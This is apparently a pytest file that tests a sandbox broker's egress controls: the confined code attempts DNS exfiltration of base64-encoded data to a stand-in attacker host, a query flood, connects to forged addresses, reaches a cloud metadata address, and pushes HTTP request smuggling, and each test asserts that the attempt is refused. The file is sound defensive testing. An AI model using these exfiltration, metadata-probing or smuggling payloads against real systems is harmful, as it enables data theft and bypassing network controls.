"""Egress by host name, attacked from inside (issue 17): exfiltration, floods, forged addresses, smuggling.

Real confined children on an in-process broker, so the host's resolver can be
stood in for: :class:`FakeDns` replaces ``socket.getaddrinfo`` in this process
(the broker's workers call it), records every name it is asked, answers from
a table and never touches the network. "Nothing leaves the host" is then a
fact to assert: the names it was asked.
"""

from __future__ import annotations

import json
import os
import socket
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from privsep.broker.dns import MAX_LOOKUPS
from privsep.broker.loop import Broker, Child
from privsep.broker.outcome import Outcome
from privsep.broker.proxy import MAX_CONNECTIONS
from privsep.broker.services import Services
from privsep.errors import EXIT_PRIVSEP
from privsep.plan.spawnplan import make_plan
from privsep.policy.load import load_policy
from privsep.policy.model import Policy
from tests.conftest import PYTHON

_REAL_GETADDRINFO = socket.getaddrinfo


class FakeDns:
    """The host's resolver, as far as the broker can tell: a table, a log of names, a delay."""

    def __init__(self, table: dict[str, str], delay: float = 0.0) -> None:
        self.table = table
        self.delay = delay
        self.asked: list[str] = []
        self.active = 0
        self.peak = 0
        self._lock = threading.Lock()

    def __call__(self, host: Any, port: Any, *args: Any, **kwargs: Any) -> Any:
        try:
            socket.inet_pton(socket.AF_INET6 if ":" in str(host) else socket.AF_INET, str(host))
        except OSError:
            pass
        else:
            return _REAL_GETADDRINFO(host, port, *args, **kwargs)  # an address: no lookup at all
        with self._lock:
            self.asked.append(str(host))
            self.active += 1
            self.peak = max(self.peak, self.active)
        try:
            time.sleep(self.delay)
            address = self.table.get(str(host))
            if address is None and any(str(host).endswith(k[1:]) for k in self.table if k.startswith("*.")):
                address = next(v for k, v in self.table.items() if str(host).endswith(k[1:]))
            if address is None:
                raise socket.gaierror(socket.EAI_NONAME, "Name or service not known")
            return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (address, port or 0))]
        finally:
            with self._lock:
                self.active -= 1


@pytest.fixture
def fake_dns(monkeypatch: pytest.MonkeyPatch) -> Callable[..., FakeDns]:
    def install(table: dict[str, str], delay: float = 0.0) -> FakeDns:
        fake = FakeDns(table, delay)
        monkeypatch.setattr(socket, "getaddrinfo", fake)
        return fake

    return install


HEADS: list[str] = []  # every request head the origin received, whole (the server fixture's)


def origin(answer: Callable[[bytes], bytes]) -> Iterator[int]:
    """A local HTTP/1.1 origin on 127.0.0.1, answering each request head with ``answer(head)``;
    yields its port (a generator for fixtures)."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(64)

    def serve() -> None:
        while True:
            try:
                conn, _ = listener.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(5)
                data = b""
                try:
                    while b"\r\n\r\n" not in data:
                        chunk = conn.recv(4096)
                        if not chunk:
                            break
                        data += chunk
                    conn.sendall(answer(data.split(b"\r\n\r\n")[0]))
                except OSError:
                    continue

    threading.Thread(target=serve, daemon=True).start()
    yield listener.getsockname()[1]
    listener.close()


@pytest.fixture
def server() -> Iterator[tuple[int, list[str]]]:
    """A local HTTP/1.1 origin on 127.0.0.1 that records each request head's first lines; its port."""
    seen: list[str] = []
    HEADS.clear()

    def record(raw: bytes) -> bytes:
        head = raw.decode("latin-1")
        HEADS.append(head)
        seen.append(" | ".join(head.split("\r\n")[:2]))
        return b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\norigin"

    for port in origin(record):
        yield port, seen


def policy_with(**extra: Any) -> Policy:
    return load_policy("python", extra=extra)


@pytest.fixture
def broker() -> Iterator[Broker]:
    b = Broker()
    yield b
    b.close()


def start(broker: Broker, policy: Policy, code: str, *args: str) -> tuple[Child, Callable[[], str], Services]:
    """Start ``code`` in a sandbox of ``policy``; (its record, its output once ended, its services)."""
    services = Services(policy)
    out = tempfile.TemporaryFile()  # noqa: SIM115 - read and closed by output(), once the child ended
    devnull = os.open(os.devnull, os.O_RDWR | os.O_CLOEXEC)
    try:
        child = broker.start(
            make_plan(policy, [str(PYTHON), "-c", code, *args]),
            services=services,
            timeout=120,
            stdio=(devnull, out.fileno(), out.fileno()),
        )
    finally:
        os.close(devnull)

    text: list[str] = []

    def output() -> str:
        if not text:
            out.seek(0)
            text.append(out.read().decode(errors="replace"))
            out.close()
        return text[0]

    return child, output, services


def run(broker: Broker, policy: Policy, code: str, *args: str) -> tuple[Child, dict[str, Any]]:
    """Run ``code`` to its end; (its record, the JSON object its last line printed)."""
    child, output, services = start(broker, policy, code, *args)
    try:
        outcome = broker.wait(child)
    finally:
        services.close()
    text = output()
    assert outcome.returncode == 0, text
    return child, json.loads(text.strip().splitlines()[-1])


# What the children speak: raw DNS over UDP (sendto: no connect to broker) and TCP, raw proxy requests.
DNS = r"""
import json, socket, struct, sys

def message(labels, qtype, qid=0x1234):
    name = b"".join(bytes([len(l)]) + l for l in labels) + b"\0"
    return struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + name + struct.pack("!HH", qtype, 1)

def ask(labels, qtype):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(10)
    s.sendto(message(labels, qtype), ("127.0.0.53", 53))
    data = s.recv(4096)
    s.close()
    flags, _qd, answers = struct.unpack_from("!HHH", data, 2)
    return [flags & 0xF, answers, data]

def name(text):
    return [part.encode() for part in text.split(".")]
"""


def _rcode(result: list[Any]) -> tuple[int, int]:
    return result[0], result[1]


# --- exfiltration ---------------------------------------------------------------------------------


def test_names_no_rule_allows_never_reach_the_hosts_resolver(
    broker: Broker, fake_dns: Callable[..., FakeDns]
) -> None:
    fake = fake_dns({"*.allowed.test": "203.0.113.7"})
    policy = policy_with(connect=[{"host": "*.allowed.test", "ports": [443]}])
    code = (
        DNS
        + r"""
out = {}
secret = "c2VjcmV0LWRhdGE.attacker.example"
for qtype in (1, 28, 16, 15, 255):
    out[f"secret/{qtype}"] = ask(name(secret), qtype)[:2]
out["long-label"] = ask([b"x" * 63, b"y" * 63, b"z" * 63, b"example"], 1)[:2]
out["too-long"] = ask([b"x" * 63] * 4, 1)[:2]
out["dot-in-a-label"] = ask([b"a.allowed", b"test"], 1)[:2]
out["apex"] = ask(name("allowed.test"), 1)[:2]
out["txt-allowed"] = ask(name("x.allowed.test"), 16)[:2]
out["any-allowed"] = ask(name("x.allowed.test"), 255)[:2]
try:
    socket.getaddrinfo("secret.attacker.example", 443)
    out["getaddrinfo"] = "resolved"
except socket.gaierror as exc:
    out["getaddrinfo"] = exc.errno
print(json.dumps(out))
"""
    )
    child, out = run(broker, policy, code)
    nxdomain, formerr, notimp = [3, 0], [1, 0], [4, 0]
    for qtype in (1, 28, 16, 15, 255):
        assert out[f"secret/{qtype}"] == nxdomain, qtype  # TXT and ANY too: the name decides first
    assert out["long-label"] == nxdomain
    assert out["too-long"] == formerr
    assert out["dot-in-a-label"] == nxdomain  # "a\\046allowed.test": never a name under allowed.test
    assert out["apex"] == nxdomain  # *.allowed.test covers what lies under, not allowed.test
    assert out["txt-allowed"] == [0, 0]  # NODATA: TXT is never answered, not even for an allowed name
    assert out["any-allowed"] == notimp
    assert out["getaddrinfo"] == socket.EAI_NONAME
    assert fake.asked == []  # nothing about any of these names left the host
    denied = {d.target for d in child.report.denials if d.op == "resolve"}
    assert "c2vjcmv0lwrhdge.attacker.example/TXT" in denied
    hints = {d.subject for d in child.report.denials if d.allow == "--allow-connect"}
    assert "c2vjcmv0lwrhdge.attacker.example:PORT" in hints

    # The control: an allowed name is looked up on the host, once for A and AAAA alike.
    code = DNS + 'y = name("y.allowed.test")\nprint(json.dumps({"a": ask(y, 1)[:2], "aaaa": ask(y, 28)[:2]}))'
    _, answers = run(broker, policy, code)
    assert answers == {"a": [0, 1], "aaaa": [0, 0]}  # one A record; no AAAA (the host has none)
    assert fake.asked == ["y.allowed.test"]


def test_a_query_flood_costs_only_the_flooder(
    broker: Broker, fake_dns: Callable[..., FakeDns], server: tuple[int, list[str]]
) -> None:
    """Floods of denied and of allowed names: the host's resolver is asked at most MAX_LOOKUPS names at
    a time for the flooder, and a sibling resolving and connecting meanwhile is served as usual."""
    port, _seen = server
    fake = fake_dns({"*.flood.test": "203.0.113.9"}, delay=0.05)
    flooding = policy_with(connect=[{"host": "*.flood.test", "ports": [443]}])
    flood = (
        DNS
        + r"""
import os, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setblocking(False)
end = time.monotonic() + 60
i = 0
while time.monotonic() < end:
    i += 1
    labels = name(f"n{i}.flood.test") if i % 2 else name(f"leak{i}.attacker.example")
    try:
        s.sendto(message(labels, 1, i & 0xFFFF), ("127.0.0.53", 53))
    except BlockingIOError:
        time.sleep(0.001)
    try:
        while s.recv(4096):
            pass
    except BlockingIOError:
        pass
"""
    )
    flooder, _flood_output, flood_services = start(broker, flooding, flood)
    try:
        deadline = time.monotonic() + 30
        while len(fake.asked) < 3 * MAX_LOOKUPS and time.monotonic() < deadline:
            broker.run_once(max_wait=0.1)
        assert len(fake.asked) >= 3 * MAX_LOOKUPS, "the flood did not start"
        sibling_policy = policy_with(
            connect=[{"host": "api.test", "ports": [port]}], network={"hosts": {"api.test": "127.0.0.1"}}
        )
        code = f"""
import json, socket
for _ in range(20):
    address = socket.getaddrinfo("api.test", {port}, type=socket.SOCK_STREAM)[0][4]
s = socket.create_connection(("api.test", {port}), timeout=20)
s.sendall(b"GET /sibling HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n")
print(json.dumps({{"address": address[0], "reply": s.recv(4096).decode()}}))
"""
        sibling, output, services = start(broker, sibling_policy, code)
        try:
            outcome = broker.wait(sibling)
        finally:
            services.close()
        assert outcome.returncode == 0, output()
        result = json.loads(output().strip().splitlines()[-1])
        assert result["address"] == "127.0.0.1" and result["reply"].endswith("origin")
        assert flooder.outcome is None, "the flood was still on while the sibling was served"
        assert fake.peak <= MAX_LOOKUPS
        assert not any("attacker" in name for name in fake.asked)
    finally:
        broker.kill(flooder, Outcome("lost", EXIT_PRIVSEP, detail="the test is over"))
        broker.wait(flooder)
        flood_services.close()


# --- forged addresses -------------------------------------------------------------------------------


def test_a_connect_to_an_address_the_resolver_never_gave_is_refused(
    broker: Broker, server: tuple[int, list[str]]
) -> None:
    port, _seen = server
    other = socket.socket()
    other.bind(("127.0.0.1", 0))
    other.listen(8)
    policy = policy_with(
        connect=[{"host": "api.test", "ports": [port]}], network={"hosts": {"api.test": "127.0.0.1"}}
    )
    code = f"""
import errno, json, socket
def attempt(address, port):
    s = socket.socket()
    try:
        s.connect((address, port))
        return "connected"
    except OSError as exc:
        return errno.errorcode.get(exc.errno, str(exc.errno))
    finally:
        s.close()
out = {{"before": attempt("127.0.0.1", {port})}}
socket.getaddrinfo("api.test", {port})
out["after"] = attempt("127.0.0.1", {port})
out["other-port"] = attempt("127.0.0.1", {other.getsockname()[1]})
out["other-address"] = attempt("127.0.0.2", {port})
print(json.dumps(out))
"""
    try:
        child, out = run(broker, policy, code)
    finally:
        other.close()
    assert out == {
        "before": "EACCES",  # the address was never answered: a forged one, for all the broker knows
        "after": "connected",
        "other-port": "EACCES",  # answered, but for a name allowed on another port
        "other-address": "EACCES",  # not the address the name was answered with
    }
    messages = [d.message for d in child.report.denials if d.op == "connect"]
    assert any("privsep's resolver has not answered it" in m for m in messages)


# --- names that lead to local networks --------------------------------------------------------------

PROXY = r"""
import json, socket, sys
def proxied(request, port=3128):
    s = socket.create_connection(("127.0.0.1", port), timeout=20)
    s.sendall(request)
    data = b""
    while True:
        chunk = s.recv(4096)
        if not chunk:
            break
        data += chunk
        if b"\r\n\r\n" in data and request.startswith(b"CONNECT") and data.startswith(b"HTTP/1.1 200"):
            break
    return s, data.decode("latin-1")
"""


def test_an_allowed_name_leading_to_a_local_network_is_refused(
    broker: Broker, fake_dns: Callable[..., FakeDns], server: tuple[int, list[str]]
) -> None:
    port, seen = server
    fake_dns({"meta.test": "169.254.169.254", "loop.test": "127.0.0.1"})
    rules = [{"host": "meta.test", "ports": [80]}, {"host": "loop.test", "ports": [port]}]
    policy = policy_with(connect=rules, network={"proxy": True})
    code = (
        PROXY
        + f"""
out = {{}}
for host, port in (("meta.test", 80), ("loop.test", {port})):
    target = f"{{host}}:{{port}}"
    s, reply = proxied(f"CONNECT {{target}} HTTP/1.1\\r\\nHost: {{target}}\\r\\n\\r\\n".encode())
    out[host] = reply.split("\\r\\n")[0] + " | " + reply.split("\\r\\n\\r\\n", 1)[-1]
address = socket.getaddrinfo("loop.test", {port}, type=socket.SOCK_STREAM)[0][4][0]
try:
    socket.create_connection((address, {port}), timeout=20)
    out["direct"] = "connected"
except OSError as exc:
    out["direct"] = exc.errno
print(json.dumps(out))
"""
    )
    _, out = run(broker, policy, code)
    assert out["meta.test"].startswith("HTTP/1.1 403 Forbidden")
    assert "link-local address, which a name may not lead to" in out["meta.test"]
    assert out["loop.test"].startswith("HTTP/1.1 403 Forbidden") and "loopback" in out["loop.test"]
    assert out["direct"] == 13  # EACCES: the resolver answered 127.0.0.1, and the name may not lead there
    assert seen == []

    # A rule for the network itself allows it: the name then reaches the local origin.
    allowed = policy_with(connect=[*rules, {"host": "127.0.0.1", "ports": [port]}], network={"proxy": True})
    code = (
        PROXY
        + f"""
s, reply = proxied(b"CONNECT loop.test:{port} HTTP/1.1\\r\\nHost: loop.test:{port}\\r\\n\\r\\n")
s.sendall(b"GET /through HTTP/1.1\\r\\nHost: loop.test\\r\\n\\r\\n")
print(json.dumps({{"reply": reply, "origin": s.recv(4096).decode()}}))
"""
    )
    _, out = run(broker, allowed, code)
    assert out["reply"].startswith("HTTP/1.1 200") and out["origin"].endswith("origin")
    assert seen == ["GET /through HTTP/1.1 | Host: loop.test"]


# --- smuggling -------------------------------------------------------------------------------------


def test_a_proxy_request_smuggling_a_second_host_is_refused(
    broker: Broker, fake_dns: Callable[..., FakeDns], server: tuple[int, list[str]]
) -> None:
    port, seen = server
    fake_dns({})
    policy = policy_with(
        connect=[{"host": "api.test", "ports": [port]}],
        network={"hosts": {"api.test": "127.0.0.1"}, "proxy": True},
    )
    a = f"api.test:{port}"
    code = (
        PROXY
        + f"""
out = {{}}
pipelined = (b"GET http://{a}/one HTTP/1.1\\r\\nHost: {a}\\r\\n\\r\\n"
             b"GET http://evil.test/two HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n")
out["pipelined"] = proxied(pipelined)[1]
out["host-header"] = proxied(b"GET http://{a}/three HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n")[1]
out["connect-host"] = proxied(b"CONNECT {a} HTTP/1.1\\r\\nHost: evil.test:443\\r\\n\\r\\n")[1]
lengths = b"Content-Length: 1\\r\\nContent-Length: 40\\r\\n"
out["two-lengths"] = proxied(b"POST http://{a}/four HTTP/1.1\\r\\nHost: {a}\\r\\n" + lengths + b"\\r\\nx")[1]
# The first request in full, then a second one once its answer came: the connection is closed.
s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
s.sendall(b"POST http://{a}/five HTTP/1.1\\r\\nHost: {a}\\r\\nContent-Length: 5\\r\\n\\r\\nhello")
first = s.recv(4096)
try:
    s.sendall(b"GET http://evil.test/six HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n")
    rest = s.recv(4096)
except OSError:
    rest = b""
out["after"] = [first.decode("latin-1"), rest.decode("latin-1")]
print(json.dumps(out))
"""
    )
    _, out = run(broker, policy, code)
    for key in ("pipelined", "host-header", "connect-host", "two-lengths"):
        assert out[key].startswith("HTTP/1.1 400 Bad Request"), (key, out[key])
    first, rest = out["after"]
    assert first.endswith("origin") and rest == ""
    assert seen == [f"POST /five HTTP/1.1 | Host: {a}"]  # exactly one request reached an origin
    assert socket.getaddrinfo is not _REAL_GETADDRINFO
    assert fake_dns_asked_nothing()


def fake_dns_asked_nothing() -> bool:
    fake = socket.getaddrinfo
    return isinstance(fake, FakeDns) and fake.asked == []


# --- bounds ---------------------------------------------------------------------------------------


def test_a_sandbox_holds_a_bounded_number_of_proxy_connections(
    broker: Broker, server: tuple[int, list[str]]
) -> None:
    port, _seen = server
    policy = policy_with(
        connect=[{"host": "api.test", "ports": [port]}],
        network={"hosts": {"api.test": "127.0.0.1"}, "proxy": True},
    )
    code = f"""
import json, socket
held = [socket.create_connection(("127.0.0.1", 3128), timeout=20) for _ in range({MAX_CONNECTIONS})]
extra = socket.create_connection(("127.0.0.1", 3128), timeout=20)
refused = extra.recv(4096).decode()
held.pop().close()
import time; time.sleep(0.5)
s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
s.sendall(b"GET http://api.test:{port}/ HTTP/1.1\\r\\nHost: api.test:{port}\\r\\n\\r\\n")
print(json.dumps({{"refused": refused, "after": s.recv(4096).decode()}}))
"""
    _, out = run(broker, policy, code)
    assert out["refused"].startswith("HTTP/1.1 503 Service Unavailable")
    assert out["after"].endswith("origin")


def test_dns_over_tcp_is_answered_and_a_broken_stream_only_loses_itself(broker: Broker) -> None:
    policy = policy_with(
        connect=[{"host": "api.test", "ports": [80]}], network={"hosts": {"api.test": "127.0.0.1"}}
    )
    code = (
        DNS
        + r"""
def over_tcp(payload):
    s = socket.create_connection(("127.0.0.53", 53), timeout=10)
    s.sendall(payload)
    data = b""
    while True:
        chunk = s.recv(4096)
        if not chunk:
            break
        data += chunk
        if len(data) >= 2 and len(data) >= 2 + struct.unpack("!H", data[:2])[0]:
            break
    s.close()
    return data
query = message(name("api.test"), 1)
good = over_tcp(struct.pack("!H", len(query)) + query)
broken = over_tcp(b"\x00\x01x")
flags, _qd, answers = struct.unpack_from("!HHH", good, 4)
found = socket.inet_aton("127.0.0.1").hex() in good.hex()
udp = ask(name("api.test"), 1)[:2]
out = {"rcode": flags & 0xF, "answers": answers, "address": found, "broken": broken.hex(), "udp": udp}
print(json.dumps(out))
"""
    )
    _, out = run(broker, policy, code)
    assert (out["rcode"], out["answers"], out["address"]) == (0, 1, True)
    assert out["broken"] == ""  # closed, unanswered
    assert out["udp"] == [0, 1]


# --- credentials the child never sees ----------------------------------------------------------------


def test_the_proxy_adds_a_header_the_sandbox_never_holds(
    broker: Broker, server: tuple[int, list[str]], monkeypatch: pytest.MonkeyPatch
) -> None:
    port, seen = server
    monkeypatch.setenv("EGRESS_TEST_TOKEN", "s3cret-value")
    inject = {
        "host": "api.test",
        "header": "Authorization",
        "source": "env:EGRESS_TEST_TOKEN",
        "prefix": "Bearer ",
    }
    policy = policy_with(
        connect=[{"host": "api.test", "ports": [port]}],
        network={"hosts": {"api.test": "127.0.0.1"}, "proxy": True, "inject": [inject]},
    )
    code = (
        PROXY
        + f"""
import os
from privsep import client
forged = b"GET http://api.test:{port}/x HTTP/1.1\\r\\nHost: api.test:{port}\\r\\n"
forged += b"Authorization: Bearer forged\\r\\n\\r\\n"
reply = proxied(forged)[1]
try:
    client.secret("EGRESS_TEST_TOKEN")
    asked = "handed out"
except client.DeniedError:
    asked = "denied"
print(json.dumps({{"reply": reply, "env": "s3cret" in repr(os.environ), "asked": asked}}))
"""
    )
    _, out = run(broker, policy, code)
    assert out["reply"].endswith("origin")
    assert out == {"reply": out["reply"], "env": False, "asked": "denied"}
    assert seen == [f"GET /x HTTP/1.1 | Host: api.test:{port}"]
    (head,) = HEADS
    assert "Authorization: Bearer s3cret-value" in head.split("\r\n")
    assert "forged" not in head  # the client's own header of that name is dropped
